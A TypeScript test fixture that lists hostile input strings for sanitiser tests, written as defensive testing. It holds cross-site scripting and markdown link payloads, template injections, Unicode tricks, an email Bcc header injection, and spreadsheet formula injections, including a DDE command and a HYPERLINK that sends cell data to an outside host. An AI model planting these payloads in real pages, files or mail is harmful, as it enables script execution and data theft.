/**
 * Texts that try to become something else: a script, a handler, an address that runs, a template, or a text that
 * reads otherwise than it is written. Whatever runs calls `xss`, and is found.
 */
export const hostileTexts: readonly string[] = [
  `<script>xss('script')</script>`,
  `<img src=x onerror="xss('img')">`,
  `"><svg/onload=xss('svg')>`,
  `'"--></style></script><script>xss('breakout')</script>`,
  `<iframe srcdoc="<script>parent.xss('srcdoc')</script>"></iframe>`,
  `<a href="javascript:xss('href')">click</a>`,
  `<details open ontoggle=xss('toggle')>x</details>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=xss('mxss')></style></mglyph></math>`,
  `{{constructor.constructor('xss(1)')()}} \${xss('template')} <%= xss('erb') %> #{xss('ruby')}`,
  `\u202egnirts desrever\u202c zero\u200bwidth\u2060text`,
  `Kim\r\nBcc: thief@example.com\r\n\r\n<b>letter</b>`,
];

/** What a spreadsheet would work out, had it been written into a cell as it is. */
export const formulas: readonly string[] = [
  `=HYPERLINK("https://example.com/?"&A1,"formula")`,
  `+1+cmd|' /C calc'!A1 formula`,
  `-2+3 formula`,
  `@SUM(1) formula`,
];

/** No text at all: to be refused wherever a text goes. */
export const noTexts: readonly string[] = ['a\u0000b', '\ud800', 'a\u009bb'];

/** Markdown that an author might be talked into pasting. */
export const hostileMarkdown = [
  '[click](javascript:xss(1))',
  '[data](data:text/html,<script>parent.xss(2)</script>)',
  '[vb](vbscript:xss(3))',
  `![x](https://example.com/x.png"onerror="xss(4))`,
  '<javascript:xss(5)>',
  `[ref]`,
  '',
  `[ref]: javascript:xss(6) "title"`,
  '',
  `\`\`\`html"><img src=x onerror=xss(7)>`,
  `<img src=x onerror=xss(8)>`,
  '```',
  ...hostileTexts,
].join('\n\n');
